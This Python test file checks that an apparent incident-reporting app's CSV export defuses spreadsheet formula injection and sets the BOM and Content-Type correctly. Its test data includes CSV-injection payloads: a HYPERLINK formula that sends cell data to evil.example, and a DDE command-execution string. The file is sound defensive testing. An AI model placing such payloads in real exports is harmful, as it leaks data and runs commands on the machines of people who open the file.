"""The timeliness CSV opens safely in a spreadsheet: a title that looks like a formula is text, UTF-8 with a BOM,
one charset in the Content-Type."""

from __future__ import annotations

import csv
import io
from datetime import datetime, timedelta, timezone

from click.testing import CliRunner

from opinion_desk.cli import main as cli
from opinion_desk.incidents.csvsafe import cell as csv_cell
from opinion_desk.state.incidents import Incident

T0 = datetime(2026, 11, 10, 1, 0, tzinfo=timezone.utc)
HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"点此")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
           "\t=1+1", "\r=1+1", "＝1+1"]


def test_csv_cell_neutralises_formulas_only() -> None:
    for v in HOSTILE:
        assert csv_cell(v) == "'" + v
    assert csv_cell("化工厂 = 爆炸") == "化工厂 = 爆炸"
    assert csv_cell(-3.5) == -3.5 and csv_cell(None) == "" and csv_cell(True) == "是" and csv_cell(False) == "否"


def _seed(db) -> None:
    with db.session_scope() as s:
        for i, title in enumerate(HOSTILE):
            s.add(Incident(title=title, level="一般", status="open", opened_at=T0, info_due=T0 + timedelta(hours=48), department="@部门" if i == 0 else "",
                           close_reason="-" if i == 1 else ""))


def _cells(text: str) -> list[list[str]]:
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:])))


def _check(rows: list[list[str]]) -> None:
    assert rows[0][:4] == ["事件编号", "标题", "级别", "状态"]
    titles = [r[1] for r in rows[1:]]
    assert titles == ["'" + t for t in HOSTILE]
    for r in rows[1:]:
        for cell in r:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), r


def test_web_csv(app, client) -> None:
    _seed(app.desk.state)
    r = client.get("/api/v1/incidents/timeliness?month=2026-11&format=csv")
    assert r.status_code == 200
    assert r.headers["Content-Type"] == "text/csv; charset=utf-8"  # one charset, not two
    raw = r.get_data()
    assert raw.startswith(b"\xef\xbb\xbf")
    _check(_cells(raw.decode("utf-8")))


def test_cli_csv(app, tmp_path) -> None:
    _seed(app.desk.state)
    cfg = tmp_path / "desk.toml"
    cfg.write_text(f'[desk]\ndata_dir = "{app.config["DESK"]["desk"]["data_dir"]}"\n', encoding="utf-8")
    out = tmp_path / "t.csv"
    r = CliRunner().invoke(cli, ["--config", str(cfg), "incidents", "export", "--month", "2026-11", "-o", str(out)])
    assert r.exit_code == 0, r.output
    _check(_cells(out.read_bytes().decode("utf-8")))
    r = CliRunner().invoke(cli, ["--config", str(cfg), "incidents", "export", "--month", "2026-11"])
    _check(_cells(r.stdout))
